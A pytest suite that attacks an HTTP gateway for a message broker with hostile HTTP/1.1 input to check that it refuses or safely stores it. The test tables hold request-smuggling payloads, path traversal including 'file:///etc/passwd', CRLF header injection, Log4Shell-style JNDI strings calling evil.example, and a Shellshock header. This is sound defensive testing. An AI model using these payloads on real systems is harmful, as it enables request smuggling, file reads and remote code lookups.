"""HTTP/1.1 as attackers write it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.brokers.ledger import read_topic
from tests.hostile.besieged import BODY_TIMEOUT_S, TOPIC, Besieged
from tests.hostile.wire import assert_refused, exchange, request

TARGET = f"/produce/{TOPIC}".encode()
SMUGGLED_TOPIC = "smuggled"
GOOD = b'{"value":"a"}'
SMUGGLED = request(f"/produce/{SMUGGLED_TOPIC}/m".encode(), method=b"GET")


@pytest.fixture(scope="module")
def smuggled(shared_gateway: Besieged) -> Iterator[str]:
    """A topic that only a request within a request would write to; nothing does."""
    shared_gateway.broker.create_topic(SMUGGLED_TOPIC)
    yield SMUGGLED_TOPIC
    assert [] == read_topic(shared_gateway.broker.bootstrap_servers, SMUGGLED_TOPIC)


def chunked(body: bytes, *lines: bytes) -> bytes:
    """Return a request whose body is `body`, chunks and all."""
    return request(TARGET, b"Transfer-Encoding: chunked", *lines) + body


TWO_LENGTHS = {
    "length and chunks": request(TARGET, b"Content-Length: 5", b"Transfer-Encoding: chunked") + b"0\r\n\r\n",
    "chunks and length": request(TARGET, b"Transfer-Encoding: chunked", b"Content-Length: 5") + b"0\r\n\r\n",
    "length of all and chunks": request(TARGET, b"Transfer-Encoding: chunked", body=b"0\r\n\r\n" + SMUGGLED),
    "two lengths": request(TARGET, b"Content-Length: 2", b"Content-Length: 200") + b"[]",
    "the same length twice": request(TARGET, b"Content-Length: 2", b"Content-Length: 2") + b"[]",
    "a list of lengths": request(TARGET, b"Content-Length: 2, 2") + b"[]",
    "length below zero": request(TARGET, b"Content-Length: -1") + b"[]",
    "length with a plus": request(TARGET, b"Content-Length: +2") + b"[]",
    "length in hex": request(TARGET, b"Content-Length: 0x2") + b"[]",
    "length in other digits": request(TARGET, "Content-Length: \uff12".encode()) + b"[]",
    "length of nothing": request(TARGET, b"Content-Length:") + b"[]",
    "length past 64 bits": request(TARGET, b"Content-Length: 18446744073709551618") + b"[]",
    "unknown coding": request(TARGET, b"Transfer-Encoding: xchunked") + b"0\r\n\r\n",
    "chunked before another coding": request(TARGET, b"Transfer-Encoding: chunked, identity") + b"0\r\n\r\n",
    "chunked twice": request(TARGET, b"Transfer-Encoding: chunked", b"Transfer-Encoding: chunked") + b"0\r\n\r\n",
    "chunked twice in one": request(TARGET, b"Transfer-Encoding: chunked, chunked") + b"0\r\n\r\n",
    "gzip as a coding": request(TARGET, b"Transfer-Encoding: gzip, chunked") + b"0\r\n\r\n",
    "a vertical tab": request(TARGET, b"Transfer-Encoding:\x0bchunked") + b"0\r\n\r\n",
    "a space before the colon": request(TARGET, b"Transfer-Encoding : chunked") + b"0\r\n\r\n",
    "a folded line": request(TARGET, b"Transfer-Encoding:\r\n chunked", b"Content-Length: 5") + b"0\r\n\r\n",
}


@pytest.mark.parametrize("data", TWO_LENGTHS.values(), ids=TWO_LENGTHS.keys())
def test_where_a_body_ends_is_beyond_doubt(besieged: Besieged, smuggled: str, data: bytes) -> None:
    """A request whose end two parsers could see in two places is refused, and nothing behind it is read as another."""
    answer = exchange(besieged, data + SMUGGLED, responses=2)

    assert [400] == [response.status for response in answer.responses]
    assert answer.closed
    assert_refused(answer.responses[0], 400)
    assert smuggled


CHUNKS = {
    "not a number": b"zz\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "below zero": b"-1\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "a plus": b"+d\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "0x": b"0xd\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "a space in front": b" d\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "past 64 bits": b"1000000000000000d\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "no size": b"\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "too small": b"5\r\n" + GOOD + b"\r\n0\r\n\r\n",
    "no line break behind": b"d\r\n" + GOOD + b"0\r\n\r\n",
    "line feeds alone": b"d\n" + GOOD + b"\n0\n\n",
    "carriage returns alone": b"d\r" + GOOD + b"\r0\r\r",
    "an endless extension": b"d;" + b"a" * 200_000,
}


@pytest.mark.parametrize("body", CHUNKS.values(), ids=CHUNKS.keys())
def test_bad_chunks_are_refused(besieged: Besieged, smuggled: str, body: bytes) -> None:
    """With what follows them."""
    answer = exchange(besieged, chunked(body) + SMUGGLED, responses=2)

    assert len(answer.responses) <= 1
    assert answer.closed
    for response in answer.responses:
        assert_refused(response, 400)
    assert smuggled


TRAILERS = [b"x-http-status: 418", b"grpc-status: 3", b"content-length: 0", b"authorization: Basic eDp5"]


@pytest.mark.parametrize("trailer", TRAILERS)
@pytest.mark.parametrize("extension", [b"", b";a=b", b';a="b;c"'])
def test_extensions_and_trailers_of_chunks_mean_nothing(besieged: Besieged, extension: bytes, trailer: bytes) -> None:
    """They are legal, and no way past the headers."""
    body = b"2" + extension + b"\r\n[]\r\n0\r\n" + trailer + b"\r\n\r\n"
    [response] = exchange(besieged, chunked(body)).responses

    assert (200, []) == (response.status, response.json())


def test_requests_in_a_row_are_answered_in_a_row(besieged: Besieged) -> None:
    """Pipelining is legal; each request counts by itself."""
    good, bad = request(TARGET, body=b"[]"), request(TARGET, body=b"{}")
    answer = exchange(besieged, (good + bad) * 20, responses=40)

    assert [200, 400] * 20 == [response.status for response in answer.responses]


TARGETS = {
    "slash in a topic": (b"/produce/a%2Fb/m", 400),
    "backslash in a topic": (b"/produce/a%5Cb/m", 400),
    "dot dot": (b"/produce/../livez", 400),
    "dot dot, encoded": (b"/produce/%2e%2e/livez", 400),
    "dot dot slash, encoded": (b"/produce/..%2flivez/m", 400),
    "dot": (b"/produce/./m", 400),
    "dots in front": (b"/./produce/besieged/m", 404),
    "climbing to the front": (b"/x/../produce/besieged/m", 404),
    "two slashes in front": (b"//produce/besieged/m", 404),
    "encoded slash in front": (b"/%2Fproduce/besieged/m", 404),
    "encoded route": (b"/%70roduce/besieged/m", 404),
    "semicolon": (b"/produce;a=b/besieged/m", 404),
    "NUL in a topic": (b"/produce/a%00b/m", 400),
    "line break in a topic": (b"/produce/a%0D%0ASet-Cookie:%20b/m", 400),
    "line break in a query": (b"/produce/besieged/m?%0D%0ASet-Cookie:b=1", 400),
    "not utf-8 in a topic": (b"/produce/%FF/m", 400),
    "not utf-8 in a message": (b"/produce/besieged/%FF", 400),
    "not utf-8 in a key": (b"/produce/besieged/m?key=%C3%28", 400),
    "not utf-8 in a name": (b"/produce/besieged/m?%FF=1", 400),
    "overlong utf-8": (b"/produce/besieged/%C0%AF", 400),
    "a surrogate in utf-8": (b"/produce/besieged/%ED%A0%80", 400),
    "raw utf-8": ("/produce/besieged/é".encode(), 400),
    "raw latin-1": (b"/produce/besieged/\xe9", 400),
    "raw C1 control": (b"/produce/besieged/\x85", 400),
    "raw NUL": (b"/produce/besieged/\0", 400),
    "raw escape": (b"/produce/besieged/\x1b[31m", 400),
    "a tab": (b"/produce/besieged/a\tb", 400),
    "a space": (b"/produce/besieged/a b", 400),
    "a fragment": (b"/produce/besieged/m#a", 400),
    "long topic": (b"/produce/" + b"a" * 60_000 + b"/m", 400),
    "long query": (b"/produce/besieged/m?" + b"a" * 60_000, 400),
    "many parameters": (b"/produce/besieged/m?" + b"a=1&" * 20_000, 400),
    "the same key often": (b"/produce/besieged/m?" + b"key=a&" * 10_000, 400),
    "longer than headers may be": (b"/produce/besieged/" + b"a" * 100_000, 431),
    "a megabyte": (b"/produce/besieged/" + b"a" * 1_000_000, 431),
    "another authority": (b"https://evil.example/produce/besieged/m", 400),
    "another scheme": (b"gopher://evil.example/produce/besieged/m", 400),
    "file": (b"file:///etc/passwd", 400),
    "no path": (b"http://evil.example", 404),
    "only an authority": (b"evil.example:80", 400),
    "an asterisk": (b"*", 400),
    "empty": (b"", 400),
    "no slash": (b"produce/besieged/m", 400),
    "the inner service": (b"/twinpost.v1.ProducerRestService/Produce", 404),
    "admin": (b"/stats", 404),
    "admin, quit": (b"/quitquitquit", 404),
    "format strings": (b"/produce/besieged/m?%25n%25s%7B0%7D=%24%7Bjndi:ldap://x%7D", 400),
}


@pytest.mark.parametrize(("target", "status"), TARGETS.values(), ids=TARGETS.keys())
def test_bad_targets_are_refused(besieged: Besieged, target: bytes, status: int) -> None:
    """They lead nowhere else, and nothing in them becomes a header of the answer."""
    [response] = exchange(besieged, request(target, method=b"GET")).responses

    assert_refused(response, status)
    assert "set-cookie" not in response.headers
    assert len(response.body) < 2000


KEPT = {
    "absolute form": (b"http://evil.example/produce/besieged/kept", b"kept"),
    "dots": (b"/produce/besieged/../../livez", b"../../livez"),
    "slashes": (b"/produce/besieged//a///b/", b"/a///b/"),
    "encoded slash": (b"/produce/besieged/a%2Fb%2f", b"a/b/"),
    "NUL": (b"/produce/besieged/a%00b", b"a\0b"),
    "line break": (b"/produce/besieged/a%0D%0ASet-Cookie:%20b", b"a\r\nSet-Cookie: b"),
    "encoded twice": (b"/produce/besieged/%252F%2525", b"%2F%25"),
    "half an escape": (b"/produce/besieged/%zz%", b"%zz%"),
    "a long message": (b"/produce/besieged/" + b"a" * 90_000, b"a" * 90_000),
}


@pytest.mark.parametrize(("target", "value"), KEPT.values(), ids=KEPT.keys())
def test_odd_targets_are_stored_as_sent(besieged: Besieged, target: bytes, value: bytes) -> None:
    """Odd is not hostile: what a message holds is the caller's business."""
    [response] = exchange(besieged, request(target, method=b"GET")).responses

    assert 200 == response.status
    place = response.json()
    assert TOPIC == place["topic"]
    [record] = [
        record
        for record in read_topic(besieged.broker.bootstrap_servers, TOPIC)
        if (place["partition"], place["offset"]) == (record.partition, record.offset)
    ]
    assert value == record.value


@pytest.mark.parametrize(
    ("method", "target", "status"),
    [
        (b"TRACE", TARGET, 405),
        (b"TRACE", b"/", 404),
        (b"CONNECT", b"evil.example:80", 404),
        (b"CONNECT", TARGET, 400),
        (b"OPTIONS", TARGET, 405),
        (b"OPTIONS", b"*", 404),
        (b"PRI", b"*", 400),
        (b"HEAD", TARGET, 405),
        (b"BREW", TARGET, 400),
        (b"post", TARGET, 400),
        (b"POST\x7f", TARGET, 400),
        (b"X" * 100_000, TARGET, 400),
        (b"", TARGET, 400),
        (b"PURGE", TARGET, 405),
        (b"PROPFIND", TARGET, 405),
    ],
)
def test_other_methods_are_refused(besieged: Besieged, method: bytes, target: bytes, status: int) -> None:
    """TRACE shows no headers, CONNECT opens no tunnel."""
    data = request(target, b"X-Secret: hidden", method=method)
    [response] = exchange(besieged, data).responses

    assert b"hidden" not in response.body
    if method == b"HEAD":
        assert (status, b"") == (response.status, response.body)
    else:
        assert_refused(response, status, 431)


HEADERS = {
    "101 headers": ([b"x-%d: 1" % number for number in range(101)], 431),
    "100 000 headers": ([b"x-%d: 1" % number for number in range(100_000)], 431),
    "100 000 times one header": ([b"x: 1"] * 100_000, 431),
    "a header of 200 000 bytes": ([b"x: " + b"a" * 200_000], 431),
    "a name of 200 000 bytes": ([b"x" * 200_000 + b": 1"], 431),
    "no colon": ([b"x"], 400),
    "no name": ([b": 1"], 400),
    "a space in a name": ([b"x y: 1"], 400),
    "NUL in a name": ([b"x\0y: 1"], 400),
    "NUL in a value": ([b"x: a\0b"], 400),
    "host for one hop only": ([b"Connection: Host"], 400),
    "credentials for one hop only": ([b"Connection: authorization"], 401),
    "content type that is not utf-8": ([b"Content-Type: a/\xff"], 400),
    "deadline that is not utf-8": ([b"Request-Timeout: \xff"], 400),
    "deadline of a million digits": ([b"Request-Timeout: " + b"9" * 90_000], 400),
    "deadline that is infinite": ([b"Request-Timeout: inf"], 400),
    "deadline that is no number": ([b"Request-Timeout: nan"], 400),
    "deadline in scientific notation": ([b"Request-Timeout: 1e9"], 400),
    "deadline in hex": ([b"Request-Timeout: 0x10"], 400),
    "deadline with an underscore": ([b"Request-Timeout: 1_0"], 400),
    "deadline below zero": ([b"Request-Timeout: -1"], 400),
    "deadline of zero": ([b"Request-Timeout: 0"], 400),
    "deadline of a list": ([b"Request-Timeout: 1, 2"], 400),
    "deadline of nothing": ([b"Request-Timeout:"], 400),
    "deadline with a folded line": ([b"Request-Timeout: 1\r\n\tSet-Cookie: b"], 400),
    "deadline with markup": ([b"Request-Timeout: <script>alert(1)</script>"], 400),
    "two credentials": ([b"Authorization: Basic eDp5"], 401),
}


@pytest.mark.parametrize(("lines", "status"), HEADERS.values(), ids=HEADERS.keys())
def test_bad_headers_are_refused(besieged: Besieged, lines: list[bytes], status: int) -> None:
    """In good time, however many there are."""
    answer = exchange(besieged, request(TARGET, *lines, body=b"[]"))
    [response] = answer.responses

    assert_refused(response, status)
    assert "set-cookie" not in response.headers
    assert answer.took_s < 5


HARMLESS = [
    [b"X: \xff\xfe"],
    [b"X: " + bytes(range(0x80, 0x100))],
    [b"Expect: 100-continue"],
    [b"Expect: 200-perhaps"],
    [b"Upgrade: websocket", b"Connection: Upgrade", b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: YQ=="],
    [b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABkAAQAAP__"],
    [b"Upgrade: TLS/1.3", b"Connection: Upgrade"],
    [b"Connection: close, x-envoy-original-path, x-envoy-original-method, content-type, te"],
    [b"X-Envoy-Original-Path: /produce/smuggled/m", b"X-Envoy-Original-Method: DELETE"],
    [b"X_Envoy_Original_Path: /produce/smuggled/m"],
    [b"X-Http-Status: 418"],
    [b"X-Http-Method-Override: DELETE", b"X-Original-Url: /livez", b"X-Rewrite-Url: /livez"],
    [b"X-Forwarded-For: 127.0.0.1", b"X-Forwarded-Proto: gopher", b"X-Forwarded-Host: evil", b"Forwarded: for=_x"],
    [b"Grpc-Timeout: 1n", b"Grpc-Encoding: bogus", b"Grpc-Status: 13", b"Grpc-Previous-Rpc-Attempts: x"],
    [b"X-Bin: !!!", b"Grpc-Trace-Bin: \xff", b"Lb-Cost-Bin: AAAA"],
    [b"Te: gzip", b"Te: trailers", b"Trailer: authorization"],
    [b"!#$%&'*+-.^_`|~: 1"],
    [b"Content-Type: application/grpc", b"Grpc-Accept-Encoding: \xff,;"],
    [b"Content-Type: application/grpc-web-text"],
    [b"Content-Type: " + b"a" * 60_000],
    [b"Accept: application/xml", b"Accept-Encoding: gzip, br;q=1.0, *;q=0", b"Accept-Language: " + b"a," * 10_000],
    [b"Range: bytes=0-0", b"If-Match: *", b"If-None-Match: *", b"If-Modified-Since: yesterday"],
    [b"Cookie: " + b"a=b; " * 10_000],
    [b"Traceparent: 00-" + b"z" * 1000, b"Tracestate: " + b"a=b," * 500, b"B3: 1"],
    [b"X-Request-Id: ${jndi:ldap://evil.example/a}"],
    [b"User-Agent: () { :; }; /bin/true"],
]


@pytest.mark.parametrize("lines", HARMLESS, ids=lambda lines: repr(lines[0][:40]))
def test_other_headers_change_nothing(besieged: Besieged, lines: list[bytes]) -> None:
    """No header reaches behind the gateway's door, or makes a good request fail."""
    [response] = exchange(besieged, request(TARGET, *lines, body=GOOD)).responses

    assert 200 == response.status, response.body
    assert [TOPIC] == [place["topic"] for place in response.json()]


@pytest.mark.parametrize(
    "data",
    [
        b"GET /produce/besieged/m HTTP/1.0\r\n\r\n",
        b"GET /produce/besieged/m HTTP/9.9\r\nHost: test\r\n\r\n",
        b"GET /produce/besieged/m HTTP/1.1.1\r\nHost: test\r\n\r\n",
        b"GET /produce/besieged/m\r\n",
        b"GET /produce/besieged/m HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03" + b"a" * 500,
        b"\0" * 1000,
        b"\xff" * 1000,
        b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.9\r\n",
        b"EHLO evil.example\r\n",
        b"*1\r\n$4\r\nPING\r\n",
        b"\0\0\0\x14\0\x12\0\x03\0\0\0\x01\xff\xff\0" + b"\0" * 20,
        b"\r\n" * 100_000,
        b"a" * 1_000_000,
    ],
    ids=lambda data: repr(data[:40]),
)
def test_what_is_not_http_is_refused(besieged: Besieged, data: bytes) -> None:
    """Another protocol, or none at all."""
    answer = exchange(besieged, data)

    assert answer.closed or answer.responses
    for response in answer.responses:
        assert_refused(response, 400, 408, 431)
    assert answer.took_s < BODY_TIMEOUT_S + 3


def test_expectation_is_met_before_the_body_comes(besieged: Besieged) -> None:
    """A client that asks may send its body."""
    data = request(TARGET, b"Expect: 100-continue", b"Content-Length: 2")
    waiting = exchange(besieged, data)
    answered = exchange(besieged, data + b"[]")

    assert waiting.continued
    assert_refused(waiting.responses[0], 408)
    assert answered.continued
    assert 200 == answered.responses[0].status
